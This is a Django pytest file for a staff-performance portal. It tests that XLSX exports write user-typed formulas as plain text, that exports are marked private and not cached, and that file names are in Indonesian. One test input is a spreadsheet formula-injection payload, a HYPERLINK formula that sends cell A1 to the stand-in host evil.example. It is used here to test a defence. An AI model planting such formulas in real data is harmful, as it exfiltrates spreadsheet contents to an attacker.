"""Exports neither run what people typed as formulas nor stay in shared caches (issue 14.10),
and their file names are Indonesian (issue 15.10)."""

import io
from http import HTTPStatus

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from performance.services import evaluation
from portal.models import OrgUnit

from .conftest import make_unit

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def workbook_rows(response):
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return list(sheet.iter_rows(values_only=True)), sheet


def test_predikat_xlsx_writes_typed_formulas_as_text(unit, client_for):
    person = unit.staff[0]
    person.full_name = FORMULA
    person.jabatan = "+1+1"
    person.save()
    unit.bidang.name = "@SUM(1,2)"
    unit.bidang.save()
    for skp in unit.skps:
        evaluation.rate_annual(
            actor=unit.penilai, skp=skp, hasil_kerja="sesuai", perilaku_kerja="sesuai"
        )
    cycle = unit.skps[0].cycle
    response = client_for(unit.head).get(reverse("performance:predikat_xlsx", args=[cycle.year]))
    assert response.status_code == HTTPStatus.OK
    rows, sheet = workbook_rows(response)
    row = next(r for r in rows if r[0] == person.nip)
    assert row[1:4] == ("'" + FORMULA, "'+1+1", "'@SUM(1,2)")
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    assert response["Cache-Control"] == "private, no-store"
    assert f"predikat-{cycle.year}-tahunan-" in response["Content-Disposition"]


def test_monitoring_xlsx_neutralises_opd_names_and_is_private(
    closed_cycle, bkpsdm_admin, client_for
):
    unit = make_unit(closed_cycle, n_staff=1)
    OrgUnit.objects.filter(pk=unit.opd.pk).update(name="=1+2")
    period = closed_cycle.periods.order_by("start").last()
    response = client_for(bkpsdm_admin).get(
        reverse("performance:monitoring_xlsx"), {"periode": period.pk}
    )
    assert response.status_code == HTTPStatus.OK
    rows, _sheet = workbook_rows(response)
    assert "'=1+2" in [r[0] for r in rows]
    assert response["Cache-Control"] == "private, no-store"
    disposition = response["Content-Disposition"]
    assert f"pemantauan-{closed_cycle.year}-triwulan-4.xlsx" in disposition
    assert "quarterly" not in disposition


def test_evaluation_pdf_is_private_and_named_in_indonesian(unit, client_for):
    from tests.performance.factories import make_report

    skp = unit.skps[0]
    period = skp.cycle.periods.order_by("start").first()
    make_report(skp, period, status="dinilai")
    evaluation.rate_annual(
        actor=unit.penilai, skp=skp, hasil_kerja="sesuai", perilaku_kerja="sesuai"
    )
    client = client_for(unit.staff[0])
    annual = client.get(reverse("performance:evaluation_pdf", args=[skp.pk]))
    assert annual.status_code == HTTPStatus.OK
    assert annual["Cache-Control"] == "private, no-store"
    periodic = client.get(
        reverse("performance:evaluation_pdf", args=[skp.pk]), {"periode": period.pk}
    )
    assert periodic.status_code == HTTPStatus.OK
    assert periodic["Cache-Control"] == "private, no-store"
    assert f"-{skp.cycle.year}-triwulan-1.pdf" in periodic["Content-Disposition"]
